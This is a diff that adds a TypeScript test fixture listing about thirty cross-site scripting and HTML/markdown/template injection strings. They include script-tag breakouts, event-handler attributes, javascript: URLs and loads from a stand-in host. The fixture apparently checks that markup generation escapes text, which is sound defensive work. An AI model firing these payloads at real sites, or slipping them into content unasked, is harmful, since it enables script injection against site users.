@@ -1,0 +1,44 @@
+// Texts that run as scripts, or ask another host for something, wherever markup is made of text without care.
+
+export const CANARY = 'canary.example'
+/** What each of them would set in the page. */
+export const MARK = 'berthRan'
+
+const run = `${MARK}=1,alert(1)`
+
+export const HOSTILE_TEXTS: readonly string[] = [
+  `<script>${run}</script>`,
+  `<script src=//${CANARY}/1></script>`,
+  `</script><script>${run}</script>`,
+  `</title><script>${run}</script>`,
+  `</textarea><script>${run}</script>`,
+  `</style><script>${run}</script>`,
+  `--><script>${run}</script>`,
+  `]]><script>${run}</script>`,
+  `"><script>${run}</script>`,
+  `'><script>${run}</script>`,
+  `<scr<script>ipt>${run}</scr</script>ipt>`,
+  `<ScRiPt>${run}</sCrIpT>`,
+  `<img src=x onerror=${run}>`,
+  `<img src=//${CANARY}/2>`,
+  `<svg onload=${run}>`,
+  `<svg><script>${run}</script></svg>`,
+  `<iframe srcdoc="<script>parent.${run}</script>">`,
+  `<iframe src=//${CANARY}/3></iframe>`,
+  `<a href=javascript:${run}>x</a>`,
+  `[x](javascript:${run})`,
+  `![x](//${CANARY}/4)`,
+  `javascript:${run}`,
+  `data:text/html,<script>${run}</script>`,
+  `" onmouseover=${run} x="`,
+  `' autofocus onfocus=${run} x='`,
+  `<details open ontoggle=${run}>`,
+  `<style>@import '//${CANARY}/5'</style>`,
+  `<link rel=stylesheet href=//${CANARY}/6>`,
+  `<base href=//${CANARY}/>`,
+  `<meta http-equiv=refresh content="0;url=//${CANARY}/7">`,
+  `<form action=//${CANARY}/8><button autofocus>x</button></form>`,
+  `\${${run}}{{constructor.constructor('${run}')()}}`,
+  `\\u003cscript>${run}\\u003c/script>`,
+  `&lt;script&gt;${run}&lt;/script&gt;`,
+]
